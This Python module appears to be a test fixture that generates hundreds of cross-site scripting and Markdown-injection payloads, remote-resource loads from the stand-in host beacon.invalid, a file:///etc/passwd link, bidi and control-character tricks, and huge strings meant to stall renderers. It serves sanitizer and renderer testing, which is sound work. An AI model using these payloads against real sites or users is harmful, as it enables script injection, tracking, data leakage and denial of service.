"""Texts that try to run something, to fetch something, or to break the page they are shown on."""

from __future__ import annotations

RUN = "window.hacked=1"
AWAY = "http://beacon.invalid"

_TAGS = """
<script>{run}</script>
<ScRiPt src="{away}/a.js"></sCrIpT>
<script type=module>import "{away}/m.js"</script>
<svg onload="{run}">
<svg><script>{run}</script></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><use href="{away}/x.svg#a"></use></svg>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<math><mtext><script>{run}</script></mtext></math>
<math href="javascript:{run}">x</math>
<math><mtext><table><mglyph><style><img src=x onerror="{run}">
<img src=x onerror="{run}">
<img src="{away}/pixel.png">
<img srcset="{away}/pixel.png 1x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>">
<picture><source srcset="{away}/p.png"><img></picture>
<iframe src="javascript:parent.{run}"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe src="{away}/frame.html"></iframe>
<object data="javascript:{run}"></object>
<object data="{away}/o.swf"></object>
<embed src="javascript:{run}">
<embed src="{away}/e">
<link rel=stylesheet href="{away}/a.css">
<link rel=prefetch href="{away}/p">
<link rel=preload as=image href="{away}/p.png">
<link rel=dns-prefetch href="{away}">
<meta http-equiv=refresh content="0;url={away}/r">
<meta http-equiv=refresh content="0;url=javascript:{run}">
<base href="{away}/">
<form action="{away}/f"><input name=a autofocus onfocus="{run}"></form>
<button formaction="javascript:{run}">x</button>
<input autofocus onfocus="{run}">
<input type=image src="{away}/i.png">
<select autofocus onfocus="{run}"><option>x</select>
<textarea autofocus onfocus="{run}"></textarea>
<keygen autofocus onfocus="{run}">
<body onload="{run}">
<body background="{away}/b.png">
<html onclick="{run}">
<video src="{away}/v.mp4" onerror="{run}"></video>
<video poster="{away}/p.png"></video>
<video><source onerror="{run}" src=x></video>
<audio src="{away}/a.mp3" onerror="{run}"></audio>
<track src="{away}/t.vtt">
<details open ontoggle="{run}"><summary>x</summary></details>
<marquee onstart="{run}">x</marquee>
<div onmouseover="{run}" style="position:fixed;inset:0;z-index:99">x</div>
<div style="background:url({away}/b.png)">x</div>
<div style="background-image:image-set('{away}/b.png' 1x)">x</div>
<style>@import "{away}/i.css";</style>
<style>body{{background:url({away}/s.png)}}</style>
<style>*{{display:none !important}}</style>
<style>@font-face{{font-family:x;src:url({away}/f.woff)}}*{{font-family:x}}</style>
<a href="javascript:{run}">x</a>
<a href="java&#10;script:{run}">x</a>
<a href=" javascript:{run}">x</a>
<a href="&#x6A;avascript:{run}">x</a>
<a href="data:text/html,<script>{run}</script>">x</a>
<a href="vbscript:{run}">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:x" ping="{away}/ping">x</a>
<a href="//beacon.invalid/x" onclick="{run}">x</a>
<p tabindex=1 autofocus onfocus="{run}">x</p>
<xss onpointerrawupdate="{run}" contenteditable autofocus onfocus="{run}" tabindex=1>x</xss>
<template><script>{run}</script></template>
<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>
<title><script>{run}</script></title>
<textarea></textarea><script>{run}</script>
<xmp></xmp><script>{run}</script>
<plaintext><script>{run}</script>
<listing>&lt;img src=x onerror={run}&gt;</listing>
<frameset onload="{run}"><frame src="{away}/f"></frameset>
<table background="{away}/t.png"><td background="{away}/d.png">x</table>
<portal src="{away}/p"></portal>
<dialog open onclose="{run}">x</dialog>
<slot onslotchange="{run}">x</slot>
<isindex action="javascript:{run}">
<bgsound src="{away}/b.wav">
<applet code="x" archive="{away}/a.jar"></applet>
<![CDATA[<script>{run}</script>]]>
<!--[if true]><script>{run}</script><![endif]-->
<!--><script>{run}</script>-->
<!--!><img src=x onerror="{run}">-->
<?xml-stylesheet href="{away}/x.css"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "{away}/e">]>&e;
<<script>{run}//<</script>
<img src="x` `<script>{run}</script>"` `>
<img ""\"><script>{run}</script>">
<a<script>{run}</script>
<svg/onload={run}>
<img/src=x/onerror={run}>
<script
>{run}</script
>
</script><script>{run}</script>
</style><script>{run}</script>
</title></head></body></html><script>{run}</script>
</pre></code></div></article></td></tr></table><script>{run}</script>
</details></summary></section><img src=x onerror="{run}">
--><script>{run}</script>
]]><script>{run}</script>
"><script>{run}</script>
'><img src=x onerror={run}>
` onmouseover={run} `
&lt;script&gt;{run}&lt;/script&gt;
&#60;script&#62;{run}&#60;/script&#62;
"""

_MARKDOWN = """
[x](javascript:{run})
[x](JaVaScRiPt:{run})
[x](java%0ascript:{run})
[x](&#106;avascript:{run})
[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)
[x](vbscript:{run})
[x](<javascript:{run}>)
![x](javascript:{run})
![x]({away}/pixel.png)
![x](data:image/svg+xml;base64,PHN2Zy8+)
![x][r]
[r]: {away}/ref.png "onerror={run}"
[x]({away}/ok "t\\" onclick=\\"{run}")
<javascript:{run}>
<{away}/autolink>
``` "><script>{run}</script>
```html\\n<script>{run}</script>\\n```
~~~ x onclick={run}
`<script>{run}</script>`
    <script>{run}</script>
| a | <script>{run}</script> |
* <script>{run}</script>
> <img src=x onerror={run}>
# <script>{run}</script>
$$\\href{{javascript:{run}}}{{x}}$$
[^1]: <script>{run}</script>
<div markdown=1>![x]({away}/p.png)</div>
**<img src=x onerror={run}>**
"""

_ODD = [
    "\u202e<script>window.hacked=1</script>\u2066",
    "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
    "<img src=x onerror\x0b=window.hacked=1>",
    "\ufeff<script>window.hacked=1</script>",
    "\ud800<script>window.hacked=1</script>\udc00",
    "＜script＞window.hacked=1＜/script＞",
    "\x1b]8;;http://beacon.invalid\x1b\\x\x1b]8;;\x1b\\",
]

_MONSTERS = [
    "[" * 50_000,
    "[" * 25_000 + "](" * 25_000,
    "<" * 50_000,
    "> " * 20_000 + "x",
    "*" * 50_000,
    "*a " * 20_000,
    "`" * 50_000,
    "".join("`" * n + " " for n in range(300)),
    "[a](" * 12_000,
    "![" * 20_000,
    "- " * 20_000,
    "".join(" " * n + "- x\n" for n in range(400)),
    "|a" * 15_000 + "|\n" + "|-" * 15_000 + "|\n",
    "|a|\n|-|\n" + "|" * 40_000,
    "&" * 50_000,
    "_a_" * 20_000,
    "~~" * 25_000,
    "\\" * 50_000,
    "<div>" * 10_000,
    "<a href='" * 6_000,
    "a" * 200_000,
    "\u202e" * 50_000,
    "\n" * 60_000,
    "x\n\n" * 20_000,
    "1. " * 15_000,
    "<!--" * 15_000,
    "[x]: y\n" * 8_000,
    "\t" * 50_000 + "x",
    "a**b" * 15_000,
    "***" * 18_000 + "a",
]


def _lines(text: str) -> list[str]:
    return [line.format(run=RUN, away=AWAY) for line in text.strip().split("\n")]


PAYLOADS = [*_lines(_TAGS), *_lines(_MARKDOWN), *_ODD]
"""Short ones."""

MONSTERS = _MONSTERS
"""Long ones, which cost a careless renderer minutes."""

_FAMILIES = (
    "{}",
    "```html\n{}\n```",
    "| a | b |\n|---|---|\n| {} | [x]({}) |",
    '\u202e\u2066[{}]({} "{}")\u200f\x00',
)

SHORT = [family.replace("{}", each) for each in PAYLOADS for family in _FAMILIES]
"""The short ones as text, as code, in a table and in a link."""

ATTACKS = [*SHORT, *MONSTERS]
"""All of them: more than 500, no two alike."""


def batches(size: int) -> list[str]:
    """All of them in texts of ``size`` short ones, or one long one."""
    groups = ["\n\n".join(SHORT[at : at + size]) for at in range(0, len(SHORT), size)]
    return [*groups, *MONSTERS]
